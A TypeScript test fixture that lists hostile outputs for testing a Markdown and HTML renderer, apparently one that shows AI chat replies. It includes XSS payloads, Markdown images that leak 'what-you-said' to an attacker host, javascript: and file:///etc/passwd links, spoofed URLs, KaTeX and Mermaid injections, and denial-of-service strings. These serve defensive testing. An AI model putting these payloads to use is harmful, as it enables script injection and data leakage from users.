/** What sets off an attack when it runs. */
export const attack = "globalThis.wasAttacked=true;document.title='attacked'";

/** HTML that runs, loads, submits or leads somewhere in a page that believes it. */
function hostileHtml(away: string): string[] {
  return [
    `<script>${attack}</script>`,
    `<script src="${away}/script"></script>`,
    `<img src="x" onerror="${attack}">`,
    `<img src="${away}/image-tag">`,
    `<img srcset="${away}/srcset 1x, ${away}/srcset-2 2x">`,
    `<picture><source srcset="${away}/picture"><img></picture>`,
    `<svg onload="${attack}"><a xlink:href="javascript:${attack}"><text>svg</text></a></svg>`,
    `<svg><image href="${away}/svg-image"/><use href="${away}/svg-use#a"/></svg>`,
    `<svg><animate attributeName="href" values="javascript:${attack}"/></svg>`,
    `<svg><foreignObject><iframe src="${away}/foreign"></iframe></foreignObject></svg>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror="${attack}">`,
    `<math href="javascript:${attack}"><mi>click</mi></math>`,
    `<iframe srcdoc="<script>parent.wasAttacked=true</script>"></iframe>`,
    `<iframe src="${away}/frame"></iframe><object data="${away}/object"></object><embed src="${away}/embed">`,
    `<meta http-equiv="refresh" content="0;url=${away}/refresh"><base href="${away}/">`,
    `<form action="${away}/form"><input name="q" autofocus onfocus="${attack}"><button>Go on</button></form>`,
    `<style>@import url("${away}/style");body{background:url("${away}/background")}</style>`,
    `<link rel="stylesheet" href="${away}/sheet"><link rel="prefetch" href="${away}/prefetch">`,
    `<link rel="dns-prefetch" href="${away}"><link rel="preconnect" href="${away}"><link rel="icon" href="${away}/icon">`,
    `<video poster="${away}/poster" src="${away}/video" autoplay></video><audio src="${away}/audio" autoplay></audio>`,
    `<details open ontoggle="${attack}"><summary>details</summary></details>`,
    `<!-- <script>${attack}</script> --!> <img src=x onerror=${attack}> -->`,
    `<![CDATA[<script>${attack}</script>]]> <?xml-stylesheet href="${away}/pi"?>`,
    `<div style="background:url(${away}/style-attribute)">styled</div>`,
    `<template><script>${attack}</script></template><noscript><img src="${away}/noscript"></noscript>`,
    `<body onload="${attack}"><table background="${away}/table"><tr><td background="${away}/cell">x</td></tr></table>`,
    `<marquee onstart="${attack}">x</marquee><a href="javascript:${attack}" ping="${away}/ping">anchor</a>`,
    `<button formaction="javascript:${attack}">button</button><isindex action="${away}/isindex">`,
  ];
}

/** An image that needs no server; shown all the same it could pass for one of the user's. */
const onePixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Links and images of Markdown that would run something, or carry out what was said. */
function hostileLinks(away: string): string[] {
  return [
    `![secret](${away}/image?q=what-you-said)`,
    `![reference][picture]\n\n[picture]: ${away}/reference-image`,
    `[![in a link](${away}/linked-image)](${away}/linked)`,
    `![" onerror="${attack}](x "title" onload="${attack}")`,
    `![inline png](${onePixel}) <img src="${onePixel}"> [![in a link](${onePixel})](${away}/linked-data)`,
    `![inline svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imdsb2JhbFRoaXMud2FzQXR0YWNrZWQ9dHJ1ZSIvPg==)`,
    `| a |\n| - |\n| ![in a table](${away}/table-image) |`,
    `> - ![deep](${away}/deep-image)`,
    `Note[^n].\n\n[^n]: ![in a note](${away}/note-image) <img src="${away}/note-tag">`,
    `<${away}/autolink> ${away}/bare www.evil.example someone@evil.example`,
    `[plain](javascript:${attack}) [mixed](JaVaScRiPt:${attack}) [data](data:text/html,<script>${attack}</script>) [vb](vbscript:x)`,
    `[encoded](&#106;avascript:${attack}) [tabbed](java&Tab;script:${attack}) <javascript:${attack}>`,
    `<a href="javascript:${attack}">anchor</a> [file](file:///etc/passwd) [blob](blob:${away}/x)`,
    `[share](\\\\evil.example\\share) [smb](smb://evil.example/s) [handler](ms-msdt:/id x) [own](/settings) [hash](#/settings) [host](//evil.example)`,
    `[google.com](https://google.com@evil.example/) [look-alike](https://аррӏе.com/) [dots](https://evil.example/%2e%2e/)`,
    `[\u202Emoc.elgoog](https://evil.example/bidi) \u202Ereversed\u202C \u2066isolated`,
    `[reference][r]\n\n[r]: javascript:${attack} "title"`,
  ];
}

/** Formulas and diagrams with commands that link, load, run or never end. */
function hostileDrawings(away: string): string[] {
  const diagram = (source: string): string => `\`\`\`mermaid\n${source}\n\`\`\``;
  return [
    `$$\\href{javascript:${attack}}{formula}$$`,
    `\\(\\url{${away}/tex-url}\\) and \\(\\includegraphics{${away}/tex-image}\\)`,
    `$$\\htmlData{x=1}{a} \\htmlStyle{background:url(${away}/tex-style)}{b} \\htmlClass{c}{d} \\htmlId{root}{e}$$`,
    `$$\\def\\a#1{\\a{#1#1}}\\a{x}$$`,
    `$$\\newcommand{\\b}{\\b\\b}\\b$$`,
    `$$\\rule{100000em}{100000em}$$ and \\(\\kern100000em x\\)`,
    `$$${'{'.repeat(3_000)}x${'}'.repeat(3_000)}$$`,
    `$$${String.raw`\frac{1}{`.repeat(150)}x${'}'.repeat(150)}$$`,
    `$$<img src=x onerror=${attack}>$$`,
    diagram(`graph TD; A["<img src=x onerror=${attack}>"]-->B`),
    diagram(`graph TD\nA["<img src='${away}/mermaid-image'>"]-->B\nclick A href "javascript:${attack}"\nclick B call alert()`),
    diagram(`graph TD\nA-->B\nclick A "${away}/mermaid-click" _blank`),
    diagram(
      `%%{init: {"securityLevel":"loose","htmlLabels":true,"themeCSS":"*{background:url(${away}/mermaid-css)}"}}%%\ngraph TD\nA["<b onclick='${attack}'>x</b>"]-->B`,
    ),
    diagram(`---\nconfig:\n  securityLevel: loose\n  fontFamily: "x;}@import url(${away}/mermaid-font);{"\n---\ngraph TD\nA-->B`),
    diagram(`graph TD\nclassDef x fill:url(${away}/mermaid-fill)\nA:::x-->B\nstyle B background:url(${away}/mermaid-style)`),
    diagram(`graph TD\nA@{ img: "${away}/mermaid-node", label: "x" }-->B@{ icon: "fa:user" }`),
    diagram(`sequenceDiagram\nparticipant A\nlink A: x @ javascript:${attack}\nA->>A: <script>${attack}</script>`),
    diagram(`graph TD\n${Array.from({ length: 400 }, (_, index) => `A${index}-->A${index + 1}`).join('\n')}`),
    diagram(`graph TD; A[never closed`),
    `\`\`\`html\n<script>${attack}</script>\n\`\`\``,
    `\`\`\`svg\n<svg onload="${attack}"/>\n\`\`\``,
    `\`\`\`__proto__\nconstructor\n\`\`\`\n\n\`\`\`"><img src=x onerror=${attack}>\nx\n\`\`\``,
  ];
}

/** Everything that is short, each by itself. `away` is a server of the attacker's. */
export function hostileOutputs(away: string): string[] {
  return [...hostileHtml(away), ...hostileLinks(away), ...hostileDrawings(away)];
}

/** Text made to take for ever: each must be on the screen within seconds. */
export function endlessOutputs(away: string): string[] {
  return [
    'x'.repeat(1_000_000),
    `${'>'.repeat(10_000)} quoted`,
    `${'- '.repeat(10_000)}nested`,
    Array.from({ length: 500 }, (_, depth) => `${'  '.repeat(depth)}- deeper`).join('\n'),
    `${'['.repeat(10_000)}a${']'.repeat(10_000)}`,
    '![a]('.repeat(10_000),
    '*a _b '.repeat(10_000),
    `${'`'.repeat(10_000)} ${'~'.repeat(10_000)}`,
    `${'$'.repeat(10_000)} ${String.raw`\(`.repeat(5_000)}`,
    `\`\`\`js\n${'const a = (((((b'.repeat(20_000)}`,
    Array.from({ length: 20_000 }, (_, index) => `[link ${index}](${away}/link-${index})`).join('\n'),
    `| a |\n| - |\n${'| b |\n'.repeat(20_000)}`,
    `|${'a|'.repeat(3_000)}\n|${'-|'.repeat(3_000)}\n|${'b|'.repeat(3_000)}`,
    '<b>'.repeat(10_000),
    `${'&amp;'.repeat(10_000)} ${'\\'.repeat(10_000)}`,
    'e\u0301\u0302\u0303'.repeat(20_000),
  ];
}
